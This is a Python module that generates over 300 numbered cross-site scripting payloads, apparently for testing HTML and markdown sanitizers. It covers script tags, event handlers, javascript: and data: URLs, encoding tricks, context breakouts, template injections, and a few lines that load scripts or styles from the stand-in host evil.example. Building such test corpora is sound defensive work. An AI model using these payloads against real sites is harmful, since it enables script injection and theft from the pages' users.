"""Shapes of script injection, made from what browsers run code by, what a page may put around a text, and how
either can be disguised. Each would set window.pwned; each has a number, so that a page that lets one through
names it."""

CODE = "window.pwned=%d"
ELEMENTS = [
    "<script>{c}</script>", "<ScRiPt>{c}</sCrIpT>", "<script\n>{c}</script\n>", "<script/x>{c}</script>", "<script src=//evil.example/{n}></script>",
    "<img src=x onerror={c}>", "<img src=x onerror='{c}'>", "<img/src=x/onerror={c}>", "<img src=x:x onerror\n=\n{c}>", "<svg onload={c}>",
    "<svg/onload={c}>", "<svg><script>{c}</script></svg>", "<svg><animate onbegin={c} attributeName=x>", "<math><mi//xlink:href='data:x,<script>{c}</script>'>",
    "<body onload={c}>", "<iframe src=javascript:{c}>", "<iframe srcdoc='<script>{c}</script>'>", "<object data=javascript:{c}>", "<embed src=javascript:{c}>",
    "<input autofocus onfocus={c}>", "<select autofocus onfocus={c}>", "<details open ontoggle={c}>", "<video><source onerror={c}>", "<audio src=x onerror={c}>",
    "<marquee onstart={c}>", "<a href=javascript:{c}>x</a>", "<form action=javascript:{c}><button>x</button></form>", "<button formaction=javascript:{c}>x</button>",
    "<link rel=stylesheet href=//evil.example/{n}>", "<style>@import'//evil.example/{n}';</style>", "<base href=//evil.example/{n}>", "<meta http-equiv=refresh content='0;javascript:{c}'>",
    "<template><script>{c}</script></template>", "<noscript><img src=x onerror={c}></noscript>", "<xss onpointerenter={c} tabindex=1>x</xss>", "<dialog open oncancel={c}>",
]
AROUND = ["{}", "\">{}", "'>{}", "</textarea>{}", "</title>{}", "--><!--{}", "]]>{}", "`{}`"]
ALONE = [
    "\" onmouseover={c} x=\"", "' onfocus={c} autofocus '", "javascript:{c}", "JaVaScRiPt:{c}", "java\tscript:{c}", "&#106;avascript:{c}", "data:text/html,<script>{c}</script>",
    "[x](javascript:{c})", "[x](JAVASCRIPT:{c})", "[x](java&#10;script:{c})", "[x](data:text/html;base64,PHNjcmlwdD4={n})", "![x](x\" onerror=\"{c})", "[x]: javascript:{c}", "<javascript:{c}>",
    "&lt;script&gt;{c}&lt;/script&gt;", "%3Cscript%3E{c}%3C/script%3E", "\\u003cscript\\u003e{c}", "\\x3cscript\\x3e{c}", "＜script＞{c}＜/script＞", "‹script›{c}", "<<script>{c}//<</script>",
    "{{{{{{name}}}}}}<script>{c}</script>", "{{{{#t}}}}<img src=x onerror={c}>{{{{/t}}}}", "{{{{>content}}}}{c}", "${{{c}}}", "#{{{c}}}", "<%={c}%>", "</script><script>{c}</script>", "';{c};//", "\";{c};//",
    "`-{c}-`", "<!--><script>{c}</script>", "<?xml {c}?>", "<![CDATA[<script>{c}</script>]]>", "*/{c}/*", "<sc<script>ript>{c}</sc</script>ript>",
]
SHAPES = [around.replace("{}", element) for around in AROUND for element in ELEMENTS] + ALONE
PAYLOADS = [shape.replace("{c}", CODE % n).replace("{n}", str(n)).replace("{{{{", "{{").replace("}}}}", "}}")
            for n, shape in enumerate(SHAPES, 1)]
assert len(set(PAYLOADS)) == len(PAYLOADS) >= 300
